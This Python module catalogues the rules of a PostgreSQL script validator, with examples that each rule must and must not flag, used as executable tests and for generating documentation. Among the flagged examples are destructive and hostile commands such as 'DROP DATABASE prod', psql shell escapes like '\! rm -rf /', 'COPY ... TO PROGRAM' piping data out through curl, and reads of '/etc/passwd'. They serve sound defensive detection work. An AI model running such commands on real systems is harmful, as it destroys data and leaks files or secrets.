"""Catalogue of the SQL validator's rules: severity, what each catches, and examples that must and must not match.

The examples are executable documentation: tests/validation/test_sql.py runs every one of them and
docs/rules/sql.md is written from this table. A rule's severity here is its usual severity; a few
rules grade by context (stated in ``what``).
"""

from __future__ import annotations

from dataclasses import dataclass

from remediation.validation.types import Severity


@dataclass(frozen=True, slots=True)
class RuleDoc:
    severity: Severity
    what: str
    must_match: tuple[str, ...]
    must_not_match: tuple[str, ...]


C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

RULES: dict[str, RuleDoc] = {
    "syntax.sql": RuleDoc(
        C,
        "The script does not parse with PostgreSQL's grammar (or a DO/function body does not parse as PL/pgSQL).",
        ("SELECT FROM WHERE ((", "DO $$ BEGIN SELEC 1; END $$"),
        ("SELECT 1;",),
    ),
    "sql.delete_without_where": RuleDoc(
        C,
        "DELETE with no WHERE, anywhere: top level, CTE, EXPLAIN ANALYZE, PREPARE, DO block, SQL function body.",
        (
            "DELETE FROM users;",
            "WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d",
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$",
            "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM audit; RETURN NEW; END $$",
        ),
        ("DELETE FROM sessions WHERE created_at < now() - interval '30 days'",),
    ),
    "sql.update_without_where": RuleDoc(
        C,
        "UPDATE with no WHERE, anywhere in the script.",
        ("UPDATE accounts SET balance = 0", "WITH u AS (UPDATE t SET a = 1 RETURNING 1) SELECT 1"),
        ("UPDATE jobs SET status = 'failed' WHERE status = 'running' AND heartbeat < now() - interval '1 hour'",),
    ),
    "sql.tautological_where": RuleDoc(
        C,
        "DELETE/UPDATE whose WHERE is always true: true, 1=1, x=x, 'a'='a', ... OR true, NOT false, EXISTS (SELECT 1), "
        "id IN (SELECT id FROM the same table) without filter or LIMIT; MERGE ON true "
        "WHEN MATCHED THEN DELETE/UPDATE.",
        (
            "DELETE FROM t WHERE true",
            "DELETE FROM t WHERE 1 = 1",
            "UPDATE t SET a = 1 WHERE id = id OR false",
            "DELETE FROM t WHERE user_id = 4 OR 'a' = 'a'",
            "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
            "DELETE FROM t WHERE EXISTS (SELECT 1)",
            "DELETE FROM t WHERE id IN (SELECT id FROM t)",
        ),
        (
            "DELETE FROM t WHERE id = 4",
            "DELETE FROM t WHERE a = b",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "DELETE FROM t WHERE id IN (SELECT id FROM t WHERE created_at < now() - interval '30 days' LIMIT 1000)",
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.user_id)",
        ),
    ),
    "sql.truncate": RuleDoc(
        H,
        "TRUNCATE removes every row without a filter and takes an ACCESS EXCLUSIVE lock.",
        ("TRUNCATE payments", 'SELECT 1; TRUNCATE "audit";'),
        ("DELETE FROM payments WHERE id = 1",),
    ),
    "sql.truncate_cascade": RuleDoc(
        C,
        "TRUNCATE ... CASCADE also empties every referencing table.",
        ("TRUNCATE orders CASCADE",),
        ("TRUNCATE staging_import",),
    ),
    "sql.drop_table": RuleDoc(
        C,
        "DROP TABLE, including comment-as-whitespace, quoted and U&-escaped names, and inside DO blocks.",
        ("DROP TABLE users", 'DROP/**/TABLE "Users"', "DO $$ BEGIN DROP TABLE x; END $$"),
        ("DROP INDEX CONCURRENTLY IF EXISTS idx_unused",),
    ),
    "sql.drop_schema": RuleDoc(C, "DROP SCHEMA.", ("DROP SCHEMA public CASCADE",), ("CREATE SCHEMA reporting",)),
    "sql.drop_materialized_view": RuleDoc(
        C, "DROP MATERIALIZED VIEW.", ("DROP MATERIALIZED VIEW mv",), ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv",)
    ),
    "sql.drop_foreign_table": RuleDoc(C, "DROP FOREIGN TABLE.", ("DROP FOREIGN TABLE ft",), ("SELECT * FROM ft",)),
    "sql.drop_tablespace": RuleDoc(C, "DROP TABLESPACE.", ("DROP TABLESPACE fast",), ("SELECT 1",)),
    "sql.drop_database": RuleDoc(C, "DROP DATABASE.", ("DROP DATABASE prod",), ("CREATE DATABASE scratch",)),
    "sql.drop_role": RuleDoc(
        C, "DROP ROLE / DROP USER.", ("DROP ROLE app_rw", "DROP USER bob"), ("ALTER ROLE bob NOLOGIN",)
    ),
    "sql.drop_owned": RuleDoc(
        C, "DROP OWNED BY drops every object a role owns.", ("DROP OWNED BY app",), ("SELECT 1",)
    ),
    "sql.reassign_owned": RuleDoc(
        H,
        "REASSIGN OWNED moves ownership of everything a role owns.",
        ("REASSIGN OWNED BY a TO b",),
        ("ALTER TABLE t OWNER TO b",),
    ),
    "sql.drop_cascade": RuleDoc(
        C,
        "DROP EXTENSION/TYPE ... CASCADE drops dependent columns and tables.",
        ("DROP EXTENSION hstore CASCADE",),
        ("DROP EXTENSION hstore",),
    ),
    "sql.drop_object": RuleDoc(
        H,
        "DROP of other objects (view, function, sequence, trigger...); CASCADE makes it critical.",
        ("DROP VIEW v", "DROP FUNCTION f()", "DROP SEQUENCE s CASCADE"),
        ("CREATE VIEW v AS SELECT 1",),
    ),
    "sql.drop_index_blocking": RuleDoc(
        M,
        "DROP INDEX without CONCURRENTLY takes an ACCESS EXCLUSIVE lock on the table.",
        ("DROP INDEX idx_orders_unused",),
        ("DROP INDEX CONCURRENTLY IF EXISTS idx_orders_unused",),
    ),
    "sql.drop_column": RuleDoc(
        H,
        "ALTER TABLE ... DROP COLUMN loses data.",
        ("ALTER TABLE t DROP COLUMN email",),
        ("ALTER TABLE t ADD COLUMN note text NULL",),
    ),
    "sql.alter_system": RuleDoc(
        C,
        "ALTER SYSTEM: critical for durability/security/program settings (fsync, full_page_writes, "
        "synchronous_commit, archive_command, preload libraries, any value 'off'), high for any other.",
        (
            "ALTER SYSTEM SET fsync = off",
            "ALTER SYSTEM SET archive_command = 'curl x'",
            "ALTER SYSTEM SET work_mem = '64MB'",
        ),
        ("SET work_mem = '64MB'",),
    ),
    "sql.role_privileged": RuleDoc(
        C,
        "CREATE/ALTER ROLE granting SUPERUSER, CREATEROLE, REPLICATION or BYPASSRLS.",
        ("ALTER ROLE app SUPERUSER", "CREATE ROLE x LOGIN SUPERUSER"),
        ("ALTER ROLE app NOSUPERUSER", "CREATE ROLE reader NOLOGIN"),
    ),
    "sql.role_password_change": RuleDoc(
        H,
        "CREATE/ALTER ROLE with PASSWORD, or psql \\password.",
        ("ALTER USER postgres PASSWORD 'x'", "\\password app"),
        ("ALTER ROLE report_user SET statement_timeout = '5min'",),
    ),
    "sql.grant_public": RuleDoc(
        H, "GRANT ... TO PUBLIC.", ("GRANT SELECT ON t TO PUBLIC",), ("GRANT SELECT ON t TO reporter",)
    ),
    "sql.grant_all": RuleDoc(
        H, "GRANT ALL [PRIVILEGES].", ("GRANT ALL ON t TO app",), ("GRANT SELECT, INSERT ON t TO app",)
    ),
    "sql.grant_all_in_schema": RuleDoc(
        M,
        "GRANT on ALL objects IN SCHEMA.",
        ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporter",),
        ("GRANT SELECT ON t TO reporter",),
    ),
    "sql.grant_role": RuleDoc(
        M,
        "GRANT of role membership; critical for pg_execute_server_program, pg_read/write_server_files and similar.",
        ("GRANT pg_execute_server_program TO app", "GRANT admins TO bob"),
        ("GRANT SELECT ON t TO bob",),
    ),
    "sql.revoke": RuleDoc(
        M,
        "REVOKE removes privileges the application may need.",
        ("REVOKE SELECT ON t FROM app",),
        ("GRANT SELECT ON t TO app",),
    ),
    "sql.alter_default_privileges": RuleDoc(
        H,
        "ALTER DEFAULT PRIVILEGES changes every future object.",
        ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app",),
        ("GRANT SELECT ON t TO app",),
    ),
    "sql.copy_program": RuleDoc(
        C,
        "COPY ... TO/FROM PROGRAM runs a shell command as postgres.",
        ("COPY t TO PROGRAM 'curl -d @- http://x'", "copy (select 1) to program 'id'"),
        ("COPY t TO STDOUT",),
    ),
    "sql.copy_server_file": RuleDoc(
        H, "COPY to or from a file on the database server.", ("COPY t FROM '/etc/passwd'",), ("COPY t FROM STDIN",)
    ),
    "sql.server_file_access": RuleDoc(
        H,
        "pg_read_file, pg_ls_dir, pg_stat_file, lo_import (high); lo_export, adminpack writers (critical).",
        ("SELECT pg_read_file('/etc/passwd')", "SELECT lo_export(1, '/tmp/x')"),
        ("SELECT pg_size_pretty(sum(size)) FROM pg_ls_waldir()",),
    ),
    "sql.dblink": RuleDoc(
        H, "dblink* calls run SQL on another server.", ("SELECT dblink_exec('host=x', 'DROP TABLE t')",), ("SELECT 1",)
    ),
    "sql.untrusted_extension": RuleDoc(
        C,
        "CREATE EXTENSION of untrusted languages (critical) or dblink, adminpack, file_fdw, postgres_fdw (high).",
        ("CREATE EXTENSION plpython3u", "CREATE EXTENSION dblink"),
        ("CREATE EXTENSION IF NOT EXISTS pg_stat_statements",),
    ),
    "sql.untrusted_function_language": RuleDoc(
        C,
        "CREATE FUNCTION / DO / CREATE LANGUAGE in an untrusted language (plpython3u, plperlu, C...).",
        ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", "DO LANGUAGE plperlu $$ system('id') $$"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",),
    ),
    "sql.do_block_language": RuleDoc(
        H,
        "DO block in a language that cannot be checked.",
        ("DO LANGUAGE plv8 $$ 1 $$",),
        ("DO $$ BEGIN PERFORM 1; END $$",),
    ),
    "sql.dynamic_execute": RuleDoc(
        C,
        "EXECUTE (or FOR ... IN EXECUTE, RETURN QUERY EXECUTE, OPEN ... FOR EXECUTE) of text built at run time in "
        "a DO block or plpgsql function. EXECUTE of a plain literal is checked as SQL instead.",
        ("DO $$ BEGIN EXECUTE 'DROP TABLE ' || x; END $$", "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$"),
        ("DO $$ BEGIN EXECUTE 'ANALYZE t'; END $$",),
    ),
    "sql.unparsable_embedded": RuleDoc(
        H,
        "A SQL function body that does not parse.",
        ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELET FROM t'",),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",),
    ),
    "sql.disable_trigger": RuleDoc(
        H,
        "ALTER TABLE ... DISABLE TRIGGER (ALL disables FK checks too).",
        ("ALTER TABLE t DISABLE TRIGGER ALL",),
        ("ALTER TABLE t ENABLE TRIGGER ALL",),
    ),
    "sql.disable_row_security": RuleDoc(
        H,
        "ALTER TABLE ... DISABLE ROW LEVEL SECURITY.",
        ("ALTER TABLE t DISABLE ROW LEVEL SECURITY",),
        ("ALTER TABLE t ENABLE ROW LEVEL SECURITY",),
    ),
    "sql.session_replication_role": RuleDoc(
        H,
        "SET session_replication_role = replica (also via set_config) disables triggers and FK checks.",
        ("SET session_replication_role = replica", "SELECT set_config('session_replication_role', 'replica', false)"),
        ("SET session_replication_role = origin",),
    ),
    "sql.dangerous_setting": RuleDoc(
        H,
        "SET zero_damaged_pages / ignore_checksum_failure / allow_system_table_mods.",
        ("SET zero_damaged_pages = on",),
        ("SET statement_timeout = '60s'",),
    ),
    "sql.create_index_blocking": RuleDoc(
        H,
        "CREATE INDEX without CONCURRENTLY on an existing table (tables created by the same script are exempt).",
        ("CREATE INDEX i ON orders (created_at)",),
        (
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON public.orders (customer_id)",
            "CREATE TABLE s (id int); CREATE INDEX si ON s (id)",
        ),
    ),
    "sql.vacuum_full": RuleDoc(
        H,
        "VACUUM FULL rewrites under ACCESS EXCLUSIVE.",
        ("VACUUM FULL orders", "VACUUM (FULL, ANALYZE) orders"),
        ("VACUUM (ANALYZE) orders", "ANALYZE orders"),
    ),
    "sql.cluster": RuleDoc(
        H, "CLUSTER rewrites under ACCESS EXCLUSIVE.", ("CLUSTER orders USING orders_pkey",), ("ANALYZE orders",)
    ),
    "sql.reindex_blocking": RuleDoc(
        H,
        "REINDEX TABLE/SCHEMA/DATABASE/SYSTEM without CONCURRENTLY (INDEX: medium).",
        ("REINDEX TABLE orders", "REINDEX DATABASE app", "REINDEX INDEX i"),
        ("REINDEX INDEX CONCURRENTLY i", "REINDEX TABLE CONCURRENTLY orders"),
    ),
    "sql.lock_access_exclusive": RuleDoc(
        H,
        "LOCK TABLE ... IN ACCESS EXCLUSIVE MODE (the default mode).",
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK TABLE t"),
        ("LOCK TABLE t IN ACCESS SHARE MODE",),
    ),
    "sql.lock_exclusive": RuleDoc(
        M,
        "LOCK TABLE in SHARE ROW EXCLUSIVE or EXCLUSIVE mode.",
        ("LOCK TABLE t IN EXCLUSIVE MODE",),
        ("LOCK TABLE t IN ROW SHARE MODE",),
    ),
    "sql.alter_column_type": RuleDoc(
        H,
        "ALTER COLUMN ... TYPE rewrites the table.",
        ("ALTER TABLE t ALTER COLUMN id TYPE bigint",),
        ("ALTER TABLE t ALTER COLUMN id SET DEFAULT 0",),
    ),
    "sql.add_column_not_null_without_default": RuleDoc(
        H,
        "ADD COLUMN ... NOT NULL without DEFAULT.",
        ("ALTER TABLE users ADD COLUMN tenant_id int NOT NULL",),
        ("ALTER TABLE t ADD COLUMN c text NULL", "ALTER TABLE t ADD COLUMN c int NOT NULL DEFAULT 0"),
    ),
    "sql.add_constraint_validating": RuleDoc(
        M,
        "ADD CONSTRAINT (FOREIGN KEY / CHECK) without NOT VALID scans the table under lock.",
        ("ALTER TABLE o ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES c (id)",),
        (
            "ALTER TABLE o ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES c (id) NOT VALID; ALTER TABLE o VALIDATE CONSTRAINT fk",
        ),
    ),
    "sql.ddl_without_lock_timeout": RuleDoc(
        L,
        "Lock-taking DDL with no SET lock_timeout earlier in the script (advice; never fails a script).",
        ("ALTER TABLE t ADD COLUMN c text NULL",),
        ("SET lock_timeout = '5s'; ALTER TABLE t ADD COLUMN c text NULL",),
    ),
    "sql.terminate_backends_unfiltered": RuleDoc(
        C,
        "pg_terminate_backend / pg_cancel_backend over a query without a WHERE that restricts by a session column "
        "(critical), or that does not exclude pg_backend_pid() (high). A literal pid is fine.",
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE true",
            "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 'active'",
        ),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction' "
            "AND state_change < now() - interval '10 min' AND pid <> pg_backend_pid()",
            "SELECT pg_cancel_backend(12345)",
        ),
    ),
    "sql.drop_replication_slot": RuleDoc(
        L,
        "pg_drop_replication_slot: one named slot is LOW (reported, listed as a side effect, does not fail); "
        "dropping slots from a query is critical (unfiltered) or high (filtered).",
        (
            "SELECT pg_drop_replication_slot('old_slot')",
            "SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots",
        ),
        ("SELECT slot_name, active FROM pg_replication_slots",),
    ),
    "sql.promote": RuleDoc(
        H, "pg_promote() fails over a standby.", ("SELECT pg_promote()",), ("SELECT pg_is_in_recovery()",)
    ),
    "sql.load_library": RuleDoc(C, "LOAD of a shared library.", ("LOAD '/tmp/x.so'",), ("SELECT 1",)),
    "sql.foreign_server": RuleDoc(
        H,
        "CREATE SERVER / USER MAPPING / IMPORT FOREIGN SCHEMA.",
        ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",),
        ("SELECT 1",),
    ),
    "sql.create_rule": RuleDoc(
        M, "CREATE RULE adds hidden behaviour.", ("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",), ("SELECT 1",)
    ),
    "sql.create_trigger": RuleDoc(
        M,
        "CREATE TRIGGER adds hidden behaviour.",
        ("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",),
        ("SELECT 1",),
    ),
    "sql.psql_shell": RuleDoc(
        C,
        "psql \\! shell escape, \\o |cmd / \\g |cmd pipes, backquotes in meta-command arguments.",
        ("\\! rm -rf /", "\\o | sh", "SELECT 1 \\g |mail x", "\\set x `id`"),
        ("\\set ON_ERROR_STOP on\nSELECT 1;",),
    ),
    "sql.psql_gexec": RuleDoc(
        C,
        "psql \\gexec runs query output as SQL.",
        ("SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec",),
        ("SELECT tablename FROM pg_tables \\g",),
    ),
    "sql.psql_copy_program": RuleDoc(
        C, "psql \\copy ... program.", ("\\copy t to program 'curl x'",), ("\\copy t to stdout",)
    ),
    "sql.psql_copy_file": RuleDoc(
        M, "psql \\copy to or from a client-side file.", ("\\copy t from '/tmp/t.csv' csv",), ("\\copy t from stdin",)
    ),
    "sql.psql_output_file": RuleDoc(M, "psql \\o / \\g / \\w to a file.", ("\\o /tmp/out.txt",), ("\\o",)),
    "sql.psql_include": RuleDoc(
        H, "psql \\i / \\ir / \\include runs an unreviewed file.", ("\\i /tmp/other.sql",), ("\\echo done",)
    ),
    "sql.psql_large_object": RuleDoc(
        H, "psql \\lo_import / \\lo_export / \\lo_unlink.", ("\\lo_import /etc/passwd",), ("\\timing on",)
    ),
    "sql.psql_environment": RuleDoc(
        M, "psql \\setenv and editor commands.", ("\\setenv PAGER 'sh -c id'",), ("\\pset pager off",)
    ),
    "sql.psql_unknown_meta": RuleDoc(M, "An unrecognised psql meta-command.", ("\\frobnicate",), ("\\timing on",)),
    "sql.scope_database": RuleDoc(
        H,
        "psql \\connect to a database outside context.allowed_databases (only when the list is set; examples use "
        "allowed_databases=('app',)).",
        ("\\connect billing",),
        ("\\connect app",),
    ),
    "sql.too_many_statements": RuleDoc(
        C,
        "More than 2000 statements: refused unchecked (not reviewable, and slow to walk).",
        ("SELECT 1;\n" * 2001,),
        ("SELECT 1;\n" * 20,),
    ),
    "sql.validator_error": RuleDoc(
        H, "A rule crashed on this input; the script is failed closed (never seen in tests).", (), ()
    ),
}

#: Context the examples are checked with (scope rules need allowed databases).
EXAMPLE_ALLOWED_DATABASES = ("app",)

INTRO = """Generated by `python -m remediation.validation.sql_rules > docs/rules/sql.md` (the examples are run by
`tests/validation/test_sql.py`). Pipeline: psql meta-commands are pre-scanned and blanked, the rest is
parsed with pglast (libpg_query, PostgreSQL's own grammar; GPL-3.0-or-later like this project), every node
of every statement is walked (CTEs, sub-selects, EXPLAIN, PREPARE), and DO blocks / plpgsql function bodies
are parsed with `parse_plpgsql` so that static statements inside them meet the same rules.

Strictness: HIGH fails on medium and above, MEDIUM on high and above, LOW on critical only. Low and info
findings never fail a script.

Decision on `pg_drop_replication_slot`: dropping **one named slot** is the standard cure for WAL piling up
behind an abandoned consumer, so it is reported as LOW (and listed in side effects) and does not fail a
script; dropping slots selected by a query is HIGH (filtered) or CRITICAL (unfiltered).
"""


def catalogue_markdown(title: str, intro: str, rules: dict[str, RuleDoc]) -> str:
    """The rule table supervisors read (docs/rules/*.md), one row per rule with one example each way."""

    def cell(example: str) -> str:
        text = example.replace("|", "\\|").replace("\n", " ⏎ ")
        return f"`{text}`" if "`" not in text else f"<code>{text}</code>"

    lines = [f"# {title}", "", intro.rstrip(), ""]
    lines += ["| rule_id | severity | what it catches | example that matches | example that does not |"]
    lines += ["| --- | --- | --- | --- | --- |"]
    for rule_id, doc in rules.items():
        match = cell(doc.must_match[0]) if doc.must_match else "—"
        no_match = cell(doc.must_not_match[0]) if doc.must_not_match else "—"
        lines.append(f"| `{rule_id}` | {doc.severity.value} | {doc.what.replace('|', '/')} | {match} | {no_match} |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":  # python -m remediation.validation.sql_rules > docs/rules/sql.md
    print(catalogue_markdown("SQL (PostgreSQL) validator rules", INTRO, RULES), end="")
